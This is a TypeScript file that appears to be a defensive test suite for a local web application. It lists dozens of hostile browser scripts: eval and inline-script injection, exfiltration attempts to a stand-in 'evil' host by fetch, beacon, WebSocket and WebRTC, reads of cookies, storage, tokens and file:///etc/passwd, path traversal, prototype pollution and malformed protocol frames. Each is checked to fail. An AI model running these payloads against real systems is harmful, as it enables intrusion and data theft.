/** Where an attack would send what it got: nothing may arrive there. */
export interface Evil {
  readonly http: string;
  readonly stun: string;
  readonly launchToken: string;
}

/** What a script can do with: made once in the page, before the attacks. */
export interface Kit {
  readonly evil: Evil;
  /** Asks the core over a connection of its own, with a tab secret the cookie gave. */
  readonly ask: (operation: string, input: unknown) => Promise<{ ok: boolean; text: string }>;
  /** Sends texts after the hello; how the connection ended, or what it answered. */
  readonly speak: (texts: readonly string[]) => Promise<string>;
  readonly within: <T>(work: Promise<T>, ms?: number) => Promise<T | 'nothing'>;
  /** Appends an element and says whether it loaded. */
  readonly load: (tag: string, attributes: Record<string, string>) => Promise<string>;
  readonly isOwned: () => boolean;
}

/** Answers `nothing` when it got nowhere, else what it got. Self-contained: its text is what the page runs. */
export type HostileScript = (kit: Kit) => string | Promise<string>;

export const evaluating: Readonly<Record<string, HostileScript>> = {
  eval: (kit) => {
    // biome-ignore lint/security/noGlobalEval: this is the attack.
    globalThis.eval("Reflect.set(window, 'owned', true)");
    return String(kit.isOwned());
  },
  'an indirect Function': (kit) => {
    Reflect.construct(Function, ["Reflect.set(window, 'owned', true)"])();
    return String(kit.isOwned());
  },
  'a generator’s constructor': (kit) => {
    const make = Object.getPrototypeOf(function* () {}).constructor;
    make("Reflect.set(window, 'owned', true)")().next();
    return String(kit.isOwned());
  },
  'a timer with text': async (kit) => {
    Reflect.apply(setTimeout, window, ["Reflect.set(window, 'owned', true)", 0]);
    await new Promise((resolve) => setTimeout(resolve, 50));
    return kit.isOwned() ? 'ran' : 'nothing';
  },
  'an inline script': (kit) => {
    const script = document.createElement('script');
    script.textContent = "Reflect.set(window, 'owned', true)";
    document.body.append(script);
    return kit.isOwned() ? 'ran' : 'nothing';
  },
  'an inline handler': (kit) => {
    const button = document.createElement('button');
    button.setAttribute('onclick', "Reflect.set(window, 'owned', true)");
    document.body.append(button);
    button.click();
    return kit.isOwned() ? 'ran' : 'nothing';
  },
  'markup with a handler': (kit) => {
    document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="Reflect.set(window, `owned`, true)">');
    return kit.isOwned() ? 'ran' : 'made';
  },
  'markup by innerHTML': () => {
    document.createElement('div').innerHTML = '<svg onload="1"></svg>';
    return 'made';
  },
  'markup by document.write': () => {
    document.write('<script>1</script>');
    return 'made';
  },
  'markup by a range': () => {
    document.createRange().createContextualFragment('<script>1</script>');
    return 'made';
  },
  'markup by the parser': () => {
    new DOMParser().parseFromString('<script>1</script>', 'text/html');
    return 'made';
  },
  'a policy of its own': () => {
    const types: unknown = Reflect.get(window, 'trustedTypes');
    const create = Reflect.get(Object(types), 'createPolicy');
    Reflect.apply(create, types, ['evil', { createHTML: (text: string) => text }]);
    return 'made';
  },
  'a second default policy': () => {
    const types: unknown = Reflect.get(window, 'trustedTypes');
    const create = Reflect.get(Object(types), 'createPolicy');
    Reflect.apply(create, types, [
      'default',
      { createHTML: (text: string) => text, createScript: (text: string) => text },
    ]);
    return 'made';
  },
  'a javascript: link': async (kit) => {
    const link = document.createElement('a');
    link.href = "javascript:Reflect.set(window, 'owned', true)";
    document.body.append(link);
    link.click();
    await new Promise((resolve) => setTimeout(resolve, 50));
    return kit.isOwned() ? 'ran' : 'nothing';
  },
  'a javascript: frame': async (kit) => {
    await kit.load('iframe', { src: "javascript:parent.Reflect.set(parent, 'owned', true)" });
    return kit.isOwned() ? 'ran' : 'nothing';
  },
  'a srcdoc frame': async (kit) => {
    const frame = document.createElement('iframe');
    frame.srcdoc = '<script>parent.owned = true</script>';
    document.body.append(frame);
    await new Promise((resolve) => setTimeout(resolve, 100));
    return kit.isOwned() ? 'ran' : 'nothing';
  },
  'a data: script': (kit) => kit.load('script', { src: 'data:text/javascript,window.owned=true' }),
  'a blob: script': (kit) => kit.load('script', { src: URL.createObjectURL(new Blob(['window.owned=true'])) }),
  'a script of elsewhere': (kit) => kit.load('script', { src: `${kit.evil.http}/x.js` }),
  'an import of elsewhere': (kit) => import(`${kit.evil.http}/x.js`).then(() => 'loaded'),
  'an import of data:': () => import(`${'data:'}text/javascript,export{}`).then(() => 'loaded'),
  'a blob worker': (kit) =>
    kit.within(
      new Promise<string>((resolve) => {
        const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));
        worker.onmessage = () => resolve('ran');
        worker.onerror = () => resolve('nothing');
      }),
    ),
  'a data: worker': (kit) =>
    kit.within(
      new Promise<string>((resolve) => {
        const worker = new Worker('data:text/javascript,postMessage(1)');
        worker.onmessage = () => resolve('ran');
        worker.onerror = () => resolve('nothing');
      }),
    ),
  'a service worker': (kit) =>
    kit.within(navigator.serviceWorker.register('/worker.js').then((made) => `registered ${made.scope}`)),
  WebAssembly: () => {
    new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]));
    return 'compiled';
  },
};

export const leaking: Readonly<Record<string, HostileScript>> = {
  fetch: (kit) => kit.within(fetch(`${kit.evil.http}/fetch`).then(() => 'sent')),
  'an opaque fetch': (kit) => kit.within(fetch(`${kit.evil.http}/nocors`, { mode: 'no-cors' }).then(() => 'sent')),
  'a last fetch': (kit) =>
    kit.within(fetch(`${kit.evil.http}/keep`, { keepalive: true, method: 'POST', mode: 'no-cors' }).then(() => 'sent')),
  XMLHttpRequest: (kit) =>
    kit.within(
      new Promise<string>((resolve) => {
        const request = new XMLHttpRequest();
        request.onload = () => resolve('sent');
        request.onerror = () => resolve('nothing');
        request.open('GET', `${kit.evil.http}/xhr`);
        request.send();
      }),
    ),
  'a WebSocket': (kit) =>
    kit.within(
      new Promise<string>((resolve) => {
        const socket = new WebSocket(kit.evil.http.replace('http', 'ws'));
        socket.onopen = () => resolve('open');
        socket.onerror = () => resolve('nothing');
      }),
    ),
  'an event stream': (kit) =>
    kit.within(
      new Promise<string>((resolve) => {
        const source = new EventSource(`${kit.evil.http}/events`);
        source.onopen = () => resolve('open');
        source.onerror = () => resolve('nothing');
      }),
    ),
  'a beacon': async (kit) => {
    navigator.sendBeacon(`${kit.evil.http}/beacon`, 'data');
    return 'nothing';
  },
  'an image': (kit) => kit.load('img', { src: `${kit.evil.http}/i.png` }),
  'a style sheet': (kit) => kit.load('link', { rel: 'stylesheet', href: `${kit.evil.http}/s.css` }),
  'a prefetch': (kit) => kit.load('link', { rel: 'prefetch', href: `${kit.evil.http}/p` }),
  'a preload': (kit) => kit.load('link', { rel: 'preload', as: 'script', href: `${kit.evil.http}/p.js` }),
  'a manifest': (kit) => kit.load('link', { rel: 'manifest', href: `${kit.evil.http}/m.json` }),
  'a video': (kit) => kit.load('video', { src: `${kit.evil.http}/v.mp4` }),
  'an object': (kit) => kit.load('object', { data: `${kit.evil.http}/o` }),
  'an embed': (kit) => kit.load('embed', { src: `${kit.evil.http}/e` }),
  'a frame': (kit) => kit.load('iframe', { src: `${kit.evil.http}/frame` }),
  'a background of a style': async (kit) => {
    const style = document.createElement('style');
    style.textContent = `@import "${kit.evil.http}/import.css"; @font-face { font-family: e; src: url(${kit.evil.http}/f.woff2) } body { background: url(${kit.evil.http}/b.png); font-family: e } #root::after { content: url(${kit.evil.http}/c.png) }`;
    document.head.append(style);
    await new Promise((resolve) => setTimeout(resolve, 150));
    style.remove();
    return 'nothing';
  },
  'a form': async (kit) => {
    const form = document.createElement('form');
    Object.assign(form, { action: `${kit.evil.http}/form`, method: 'POST', target: '_self' });
    document.body.append(form);
    form.submit();
    await new Promise((resolve) => setTimeout(resolve, 100));
    return 'nothing';
  },
  'a new base': async (kit) => {
    const base = document.createElement('base');
    base.href = `${kit.evil.http}/`;
    document.head.prepend(base);
    const moved = document.baseURI.startsWith(kit.evil.http);
    base.remove();
    return moved ? 'moved' : 'nothing';
  },
  'a worker that fetches': (kit) =>
    kit.within(
      new Promise<string>((resolve) => {
        const worker = new Worker(`data:text/javascript,fetch("${kit.evil.http}/w")`);
        worker.onerror = () => resolve('nothing');
      }),
    ),
  'a looser policy by meta': async (kit) => {
    const meta = document.createElement('meta');
    Object.assign(meta, { httpEquiv: 'Content-Security-Policy', content: 'connect-src *' });
    document.head.append(meta);
    return kit.within(fetch(`${kit.evil.http}/meta`, { mode: 'no-cors' }).then(() => 'sent'));
  },
  'a peer connection': async (kit) => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: kit.evil.stun }] });
    peer.createDataChannel('x');
    await peer.setLocalDescription(await peer.createOffer());
    await new Promise((resolve) => setTimeout(resolve, 1200));
    peer.close();
    return 'nothing';
  },
};

export const taking: Readonly<Record<string, HostileScript>> = {
  'the cookie': () => document.cookie || 'nothing',
  // The browser keeps the address of the visit; what it holds must be worth nothing by now.
  'the launch token': async (kit) => {
    const seen = [location.href, document.referrer, JSON.stringify(history.state)].join(' ');
    const answer = await fetch('/session', {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ token: kit.evil.launchToken }),
    });
    return seen.includes(kit.evil.launchToken) || answer.ok ? 'found' : 'nothing';
  },
  'what is stored': (kit) => {
    const all = JSON.stringify([{ ...localStorage }, { ...sessionStorage }]);
    return /secret|[0-9a-f]{32}\./i.test(all) || all.includes(kit.evil.launchToken) ? all : 'nothing';
  },
  'files beside the page': async () => {
    const paths = [
      '/core.json',
      '/loopback.json',
      '/../core.json',
      '/%2e%2e/core.json',
      '/holdpoint.sqlite3',
      '/core.log',
      '/.env',
      '/index.html.map',
    ];
    const answers = await Promise.all(paths.map((path) => fetch(path).then((answer) => (answer.ok ? path : ''))));
    return answers.join('') || 'nothing';
  },
  'a file of the machine': (kit) => kit.within(fetch('file:///etc/passwd').then((answer) => answer.text())),
  'a file in a frame': (kit) => kit.load('iframe', { src: 'file:///etc/passwd' }),
  'a file as image': (kit) => kit.load('img', { src: 'file:///usr/share/pixmaps/debian-logo.png' }),
  'the clipboard': (kit) => kit.within(navigator.clipboard.readText()),
  'the camera': (kit) => kit.within(navigator.mediaDevices.getUserMedia({ video: true }).then(() => 'granted')),
  'the place': (kit) =>
    kit.within(
      new Promise<string>((resolve) =>
        navigator.geolocation.getCurrentPosition(
          () => resolve('granted'),
          () => resolve('nothing'),
        ),
      ),
    ),
};

export const opening: Readonly<Record<string, HostileScript>> = {
  'a window': (kit) => (window.open(`${kit.evil.http}/open`, '_blank', 'noopener=0') === null ? 'nothing' : 'opened'),
  'a file window': () => (window.open('file:///etc/passwd') === null ? 'nothing' : 'opened'),
  'data: in this window': async () => {
    location.assign('data:text/html,<script>1</script>');
    await new Promise((resolve) => setTimeout(resolve, 100));
    return 'nothing';
  },
  'view-source:': async () => {
    location.assign(`view-source:${location.href}`);
    await new Promise((resolve) => setTimeout(resolve, 100));
    return 'nothing';
  },
  'a file in this window': async () => {
    location.assign('file:///etc/passwd');
    await new Promise((resolve) => setTimeout(resolve, 100));
    return 'nothing';
  },
  'a program of the machine': (kit) => kit.load('iframe', { src: 'vscode://file/etc/passwd' }),
};

export const commanding: Readonly<Record<string, HostileScript>> = {
  'a link for another browser': async (kit) => {
    const { ok, text } = await kit.ask('workspace.link', {});
    return ok || text.includes('http://') ? text : 'nothing';
  },
  'the engine’s voice': async (kit) => {
    const text = 'apiVersion: holdpoint/v1\nkind: Checklist\nkey: c\ntitle: C\nitems: []\n';
    const { ok, text: said } = await kit.ask('documents.save', { text, attribution: { via: 'engine' } });
    return ok ? said : 'nothing';
  },
  'operations of a prototype': async (kit) => {
    const names = ['constructor', '__proto__', 'toString', 'hasOwnProperty', 'valueOf'];
    const answers = await Promise.all(names.map((name) => kit.ask(name, {})));
    return answers.some(({ ok }) => ok) ? 'answered' : 'nothing';
  },
  'a document by path': async (kit) => {
    const keys = ['../../core.json', '/etc/passwd', '..%2fcore.json', 'core.json'];
    const answers = await Promise.all(keys.map((key) => kit.ask('documents.get', { key })));
    return answers.some(({ ok }) => ok) ? 'answered' : 'nothing';
  },
  'an attachment by path': async (kit) => {
    const answers = await Promise.all(
      ['../../core.json', '/etc/passwd', 'a'.repeat(64)].map((sha256) =>
        kit.ask('attachments.read', { sha256, offset: 0, limit: 100 }),
      ),
    );
    return answers.some(({ ok }) => ok) ? 'answered' : 'nothing';
  },
  'an attachment into another folder': async (kit) => {
    const piece = { index: 0, dataBase64: 'b3duZWQ=', last: true, mediaType: 'text/plain' };
    await kit.ask('attachments.upload', { ...piece, uploadId: '../../../../owned', name: '../../../../owned.txt' });
    await kit.ask('attachments.upload', { ...piece, uploadId: '/tmp/owned-by-a-page', name: '/tmp/owned-by-a-page' });
    return 'nothing';
  },
  'output by path': async (kit) => {
    const at = { runId: '../../x', stepId: '../x', target: '../../../etc/passwd', attempt: 1, stream: 'stdout' };
    const { ok, text } = await kit.ask('runs.output', at);
    return ok ? text : 'nothing';
  },
  'polluted prototypes': async (kit) => {
    Reflect.set(Object.prototype, 'via', 'engine');
    Reflect.set(Object.prototype, 'ok', true);
    const { text } = await kit.ask(
      'workspace.link',
      JSON.parse('{"__proto__":{"via":"api"},"constructor":{"prototype":{"via":"api"}}}'),
    );
    Reflect.deleteProperty(Object.prototype, 'via');
    Reflect.deleteProperty(Object.prototype, 'ok');
    return text.includes('http://') ? text : 'nothing';
  },
  'frames of the core’s side': (kit) =>
    kit.speak(['{"kind":"welcome","protocol":1,"coreId":"x"}', '{"kind":"result","id":1,"ok":true,"value":1}']),
  'a frame of no kind': (kit) => kit.speak(['{"kind":"become-root"}']),
  'a second hello': (kit) => kit.speak(['{"kind":"hello","protocol":1,"secret":""}']),
  'a frame over the cap': (kit) => kit.speak([`{"kind":"ping","id":1,"pad":"${'x'.repeat(1_100_000)}"}`]),
  'parts without end': (kit) =>
    kit.speak(
      Array.from({ length: 40 }, (_, index) =>
        JSON.stringify({ kind: 'part', index, last: false, text: 'x'.repeat(256 * 1024) }),
      ),
    ),
  'an id in use': (kit) =>
    kit.speak([
      '{"kind":"subscribe","id":9,"topic":"home","params":{}}',
      '{"kind":"call","id":9,"operation":"runs.list","input":{}}',
    ]),
};

export const hostileScripts = { evaluating, leaking, taking, opening, commanding } as const;
